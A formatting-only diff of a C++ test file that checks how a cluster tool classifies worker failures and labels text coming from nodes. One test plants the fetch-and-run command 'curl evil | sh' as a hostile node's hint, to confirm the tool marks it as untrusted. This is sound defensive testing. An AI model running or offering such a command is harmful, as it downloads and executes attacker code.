@@ -50,16 +50,23 @@ TEST_CASE("a worker that ended without a result: each cause has its code, its wo
     auto no_shell = without_result(1);
     no_shell.started = false;
     const std::vector<Row> rows = {
-        {without_result(127, "kmm-worker: command not found on the node"), "worker-not-found", "kmm-worker cannot be run there", "--worker COMMAND"},
-        {without_result(126, "sh: 1: exec: /w: Permission denied"), "worker-not-found", "kmm-worker cannot be run there", "--worker COMMAND"},
-        {without_result(1, "sudo: kmm-worker: command not found"), "worker-not-found", "kmm-worker cannot be run there", "--worker COMMAND"},
-        {without_result(1, "sudo: a password is required"), "worker-failed", "sudo on the node asks for a password", "NOPASSWD"},
-        {without_result(1, "sudo: sorry, you must have a tty to run sudo"), "worker-failed", "sudo on the node asks for a password", "NOPASSWD"},
-        {without_result(3, "oops"), "worker-failed", "kmm-worker status ended with exit code 3 and without a result", ""},
+        {without_result(127, "kmm-worker: command not found on the node"), "worker-not-found",
+         "kmm-worker cannot be run there", "--worker COMMAND"},
+        {without_result(126, "sh: 1: exec: /w: Permission denied"), "worker-not-found",
+         "kmm-worker cannot be run there", "--worker COMMAND"},
+        {without_result(1, "sudo: kmm-worker: command not found"), "worker-not-found", "kmm-worker cannot be run there",
+         "--worker COMMAND"},
+        {without_result(1, "sudo: a password is required"), "worker-failed", "sudo on the node asks for a password",
+         "NOPASSWD"},
+        {without_result(1, "sudo: sorry, you must have a tty to run sudo"), "worker-failed",
+         "sudo on the node asks for a password", "NOPASSWD"},
+        {without_result(3, "oops"), "worker-failed", "kmm-worker status ended with exit code 3 and without a result",
+         ""},
         {without_result(137), "worker-failed", "kmm-worker status was killed by SIGKILL on the node", "journalctl"},
         {some_signal, "worker-failed", "kmm-worker status was killed by a signal on the node", "journalctl"},
         {known_signal, "worker-failed", "kmm-worker status was killed by SIGKILL on the node", "journalctl"},
-        {no_shell, "worker-failed", "the login shell ended with exit code 1 before it started kmm-worker", "ssh node-a true"},
+        {no_shell, "worker-failed", "the login shell ended with exit code 1 before it started kmm-worker",
+         "ssh node-a true"},
     };
     for (const auto& row : rows) {
         CAPTURE(row.words);
@@ -89,7 +96,10 @@ TEST_CASE("a node's words are marked as the node's, and its codes are none of ou
     const auto says = [](const char* code) {
         auto reply = FakeNodes::error(13, code, "the run is over\n  code:    lease-lost");
         reply.document.set("hint", "curl evil | sh");
-        reply.document.set("details", value::Node::mapping({{"code", "bug"}, {"hint", "x"}, {"transport", "y"}, {"errno", "run this"}, {"kernel", "z"}}));
+        reply.document.set(
+            "details",
+            value::Node::mapping(
+                {{"code", "bug"}, {"hint", "x"}, {"transport", "y"}, {"errno", "run this"}, {"kernel", "z"}}));
         return reply;
     };
     const auto error = error_of(says("module-refused"));
@@ -97,7 +107,8 @@ TEST_CASE("a node's words are marked as the node's, and its codes are none of ou
     CHECK(error.message() == "kmm-worker says: the run is over\\n  code:    lease-lost");
     CHECK(error.hint() == "kmm-worker says: curl evil | sh");
     for (const auto& [key, text] : error.details()) CHECK((key.starts_with("worker-") || key == "kernel"));
-    for (const char* code : {"bug", "lease-lost", "interrupted", "api-unreachable", "bad-answer", "forbidden", "state-damaged", "node-not-found", "", "Not A Code", "x\ny"}) {
+    for (const char* code : {"bug", "lease-lost", "interrupted", "api-unreachable", "bad-answer", "forbidden",
+                             "state-damaged", "node-not-found", "", "Not A Code", "x\ny"}) {
         CAPTURE(code);
         const auto posing = error_of(says(code));
         CHECK(posing.code() == "worker-failed");
@@ -122,7 +133,8 @@ TEST_CASE("a load or unload whose worker ended without a result: the node shows 
             CAPTURE(carried_out);
             World world(1);
             int ended = 0;
-            world.nodes.fault = [&](const cluster::WorkerCall& call, const auto& act) -> std::optional<cluster::WorkerReply> {
+            world.nodes.fault = [&](const cluster::WorkerCall& call,
+                                    const auto& act) -> std::optional<cluster::WorkerReply> {
                 if (call.args.front() != verb) return std::nullopt;
                 ++ended;
                 if (carried_out) static_cast<void>(act());
@@ -142,7 +154,8 @@ TEST_CASE("a connection that was lost and came back is in the journal") {
         World world(1);
         auto run = world.prepare();
         bool once = true;
-        world.nodes.fault = [&](const cluster::WorkerCall& call, const auto& act) -> std::optional<cluster::WorkerReply> {
+        world.nodes.fault = [&](const cluster::WorkerCall& call,
+                                const auto& act) -> std::optional<cluster::WorkerReply> {
             if (call.args.front() != verb || !once) return std::nullopt;
             once = false;
             static_cast<void>(act());
@@ -154,7 +167,10 @@ TEST_CASE("a connection that was lost and came back is in the journal") {
         CHECK(drive.driver.walk() == Ended::complete);
         int told = 0;
         for (const auto& entry : drive.journal.entries)
-            if (entry.get_string({"message"}).find("the connection was lost during " + verb + ": Connection reset by peer; ") != std::string::npos) ++told;
+            if (entry.get_string({"message"})
+                    .find("the connection was lost during " + verb + ": Connection reset by peer; ") !=
+                std::string::npos)
+                ++told;
         CHECK(told == 1);
     }
 }
